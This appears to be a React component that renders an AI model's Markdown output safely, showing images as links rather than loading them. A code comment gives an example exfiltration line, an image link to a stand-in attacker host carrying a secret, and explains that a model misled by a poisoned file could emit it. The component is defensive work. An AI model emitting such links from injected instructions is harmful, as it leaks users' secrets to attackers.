import { memo } from 'react';
import ReactMarkdown from 'react-markdown';

// react-markdown builds React elements from the Markdown AST and, without rehype-raw, renders
// any raw HTML in the model's text as literal text: nothing the model writes is ever parsed as
// HTML or run. Its default urlTransform also drops `javascript:` and other unsafe URLs.
// Images are shown as links, never loaded: a model led on by a poisoned file could otherwise
// make the page fetch `![](https://attacker/?d=<secret>)` with no click (the CSP blocks it too).
export const MarkdownView = memo(function MarkdownView({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown
        skipHtml={false}
        components={{
          a: ({ href, children }) => (
            <a href={href} target="_blank" rel="noopener noreferrer nofollow">
              {children}
            </a>
          ),
          img: ({ src, alt }) =>
            src ? (
              <a
                className="md-image-link"
                href={src}
                target="_blank"
                rel="noopener noreferrer nofollow"
                title="Image not loaded: open it in a new tab"
                data-testid="image-link"
              >
                🖼 {alt || src}
              </a>
            ) : (
              <span>🖼 {alt}</span>
            ),
        }}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
});
